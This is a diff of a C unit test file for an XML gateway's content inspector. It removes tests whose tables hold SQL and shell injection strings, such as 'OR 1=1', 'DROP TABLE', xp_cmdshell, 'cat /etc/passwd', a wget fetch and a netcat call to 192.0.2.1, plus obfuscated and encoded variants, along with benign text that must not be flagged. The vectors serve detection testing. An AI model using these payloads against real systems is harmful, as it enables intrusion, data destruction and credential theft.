@@ -3,27 +3,8 @@
 #include <time.h>
 
 #include "base/pattern.h"
-#include "policy_text.h"
+#include "content_rules.h"
 #include "run.h"
-#include "vectors.h"
-
-#define POLICY(content) \
-	ROOT "<gateway xmlns:o='urn:fmp:orders'><content>" content "</content></gateway></policy>"
-#define ENV	"<e:Envelope xmlns:e='http://schemas.xmlsoap.org/soap/envelope/'>"
-#define END	"</e:Envelope>"
-#define SAYS(x) ENV "<e:Body><x xmlns='urn:x'>" x "</x></e:Body>" END
-
-static struct fmp_inspector *with_rules(enum fmp_security security, const char *policy)
-{
-	struct fmp_inspect_config cfg = vector_config(security);
-	struct fmp_policy *p = must_load_text(policy);
-	struct fmp_inspector *i;
-
-	cfg.content = p->gateway.content;
-	i = make_inspector(&cfg);
-	fmp_policy_free(p); /* nothing of it is kept */
-	return i;
-}
 
 /* ---- the reader ---- */
 
@@ -167,21 +148,6 @@ START_TEST(rules_need_messages_that_are_read)
 END_TEST
 
 /* ---- what they find ---- */
-
-static void expect(struct fmp_inspector *i, const char *text, const char *refused_by)
-{
-	struct fmp_inspection v = inspect_bytes(i, text, strlen(text));
-
-	if (refused_by) {
-		ck_assert_msg(!v.accepted && v.step == FMP_STEP_CONTENT &&
-				      v.kind == FMP_EVENT_CONTENT,
-			      "%.100s: %s: %s", text, fmp_step_name(v.step), v.detail);
-		ck_assert_msg(strstr(v.detail, refused_by) != NULL, "%.100s: %s", text, v.detail);
-	} else {
-		ck_assert_msg(v.accepted, "%.100s: %s: %s", text, fmp_step_name(v.step), v.detail);
-	}
-	fmp_inspection_clear(&v);
-}
 
 START_TEST(finds_texts_wherever_they_stand)
 {
@@ -399,147 +365,6 @@ START_TEST(a_slow_rule_ends_soon)
 }
 END_TEST
 
-/* ---- the rules that are shipped ---- */
-
-static struct fmp_inspector *shipped(void)
-{
-	char text[1024];
-
-	snprintf(
-		text, sizeof(text),
-		ROOT
-		"<gateway><content rules='%s%s/policies/content-injection.xml'/></gateway></policy>",
-		*top() == '/' ? "" : getenv("PWD"), *top() == '/' ? top() : "");
-	return with_rules(FMP_SECURITY_BC, text);
-}
-
-static void say(struct fmp_inspector *i, const char *words, const char *rule)
-{
-	char text[1024];
-
-	snprintf(text, sizeof(text), SAYS("<![CDATA[%s]]>"), words);
-	expect(i, text, rule);
-}
-
-START_TEST(injections_are_found)
-{
-	static const char *const rows[][2] = {
-		{ "1 UNION SELECT name FROM users", "sql-" },
-		{ "1'/**/uNiOn/**/aLl/**/SeLeCt/**/1", "sql-" },
-		{ "x' union(select 1)", "sql-" },
-		{ "' or 1=1", "sql-" },
-		{ "' OR 'a'='a", "sql-" },
-		{ "x\" || \"1\" = \"1", "sql-" },
-		{ "1') and (select 1)=1", "sql-" },
-		{ "a' and substr like 'a%", "sql-" },
-		{ "7 or 1=1", "sql-" },
-		{ "7 OR '1' = '1'", "sql-" },
-		{ "7 and/**/2<>3", "sql-" },
-		{ "admin'--", "sql-" },
-		{ "admin' #", "sql-" },
-		{ "admin')) -- ", "sql-" },
-		{ "1; DROP TABLE users", "sql-" },
-		{ "1;delete from orders", "sql-" },
-		{ "1; exec master..xp_cmdshell 'dir'", "sql-" },
-		{ "1 and sleep(5)", "sql-" },
-		{ "1 waitfor delay '0:0:5'", "sql-" },
-		{ "(select table_name from information_schema.tables)", "sql-" },
-		{ "x; cat /etc/passwd", "shell-" },
-		{ "x;id", "shell-" },
-		{ "x && wget http://a.example/b", "shell-" },
-		{ "x | nc 192.0.2.1 4444", "shell-" },
-		{ "`whoami`", "shell-" },
-		{ "x\n/bin/sh -i", "shell-" },
-		{ "$(reboot)", "shell-" },
-		{ "a;cat${IFS}b", "shell-" },
-		{ "../../../etc/shadow", "shell-" },
-		{ "a > /tmp/b", "shell-" },
-		{ "cmd.exe /c dir", "shell-" },
-		{ "' OR true--", "sql-" },
-		{ "' OR EXISTS(SELECT 1)--", "sql-" },
-		{ "' || (SELECT 1)='1", "sql-" },
-		{ "1' ORDER BY 5--", "sql-" },
-		{ "1' GROUP BY x HAVING 1=1--", "sql-" },
-		{ "'\xc2\xa0OR\xc2\xa0"
-		  "1=1",
-		  "sql-" },
-		{ "'\xe2\x80\x8bOR\xe2\x80\x8b 1=1", "sql-" },
-		{ "\xef\xbc\x87 \xef\xbc\xaf\xef\xbc\xb2 1=1", "sql-" },
-		{ "%27%20or%201=1", "sql-" },
-		{ "%2527+or+1=1", "sql-" },
-		{ ";/bin/?\?/id", "shell-" },
-		{ ";i\\d", "shell-" },
-		{ "x;$HOME", "shell-" },
-		{ "$((1+1))", "shell-" },
-	};
-	struct fmp_inspector *i = shipped();
-
-	for (size_t n = 0; n < sizeof(rows) / sizeof(rows[0]); n++)
-		say(i, rows[n][0], rows[n][1]);
-	fmp_inspector_free(i);
-}
-END_TEST
-
-/* Folding is asked for, and hides nothing of what is written. */
-START_TEST(a_text_is_folded_where_the_rule_says_so)
-{
-	static const char wide[] = "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x89\xef\xbd\x8c";
-	static const char *const read_as_evil[] = { wide,	"ev\xe2\x80\x8bil", "%65vil",
-						    "%2565vil", "%u0065vil",	    "evil" };
-	struct fmp_inspector *folds =
-		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$' fold='yes'/>"));
-	struct fmp_inspector *plain =
-		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$'/>"));
-	struct fmp_inspector *escape =
-		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='%65' fold='yes'/>"));
-	char text[512];
-
-	for (size_t n = 0; n < sizeof(read_as_evil) / sizeof(read_as_evil[0]); n++) {
-		snprintf(text, sizeof(text), SAYS("%s"), read_as_evil[n]);
-		expect(folds, text, "\"r\" in x");
-		expect(plain, text, strcmp(read_as_evil[n], "evil") ? NULL : "\"r\" in x");
-	}
-	expect(escape, SAYS("%65vil"), "\"r\" in x");
-	expect(folds, SAYS("100% evil"), NULL);
-	expect(folds, SAYS("%c3%a9vil"), NULL);
-	fmp_inspector_free(folds);
-	fmp_inspector_free(plain);
-	fmp_inspector_free(escape);
-}
-END_TEST
-
-START_TEST(what_people_write_is_not)
-{
-	static const char *const rows[] = {
-		"M. O'Brien",
-		"O'Neill and Sons, 12-14 Union Street; the select committee of the union",
-		"The credit union selects its members; cat owners are welcome, and so is id 5",
-		"Rock 'n' roll or jazz? 'Both' and more -- he said",
-		"price = 12.50 or less; qty > 5 & < 10",
-		"Drop the table at the door; update me on the set. Delete from the list what you like",
-		"Please sleep well (not on the bench); wait for a delay",
-		"see www.example.org/a/b;c=d?x=1&id=2 | type B | net 30 days",
-		"$100 (or 90%) {a} `quoted`",
-		"C:\\Program Files\\x; ls. ps: kill time, touch wood",
-		"1 or 2, 3 and 4; 'a' and 'b', \"c\" or \"d\"",
-		"text in Gr\xc3\xbc\xc3\x9f"
-		"e, \xe2\x80\x9cquotes\xe2\x80\x9d; \xe4\xb8\xad\xe6\x96\x87",
-	};
-	static const char *const vectors[] = { "plain/plain-1k.xml", "plain/plain-100k.xml" };
-	struct fmp_inspector *i = shipped();
-
-	for (size_t n = 0; n < sizeof(rows) / sizeof(rows[0]); n++)
-		say(i, rows[n], NULL);
-	for (size_t n = 0; n < 2; n++) {
-		struct bytes b = read_vector(vectors[n]);
-
-		expect(i, b.p, NULL);
-		free(b.p);
-	}
-	fmp_inspector_free(i);
-}
-END_TEST
-
 int main(void)
 {
 	TCase *tc = tcase_create("content");
@@ -557,8 +382,5 @@ int main(void)
 	tcase_add_test(tc, of_what_was_signed_and_encrypted);
 	tcase_add_test(tc, steps_are_counted);
 	tcase_add_test(tc, a_slow_rule_ends_soon);
-	tcase_add_test(tc, injections_are_found);
-	tcase_add_test(tc, a_text_is_folded_where_the_rule_says_so);
-	tcase_add_test(tc, what_people_write_is_not);
 	return run_tcase("content", tc);
 }
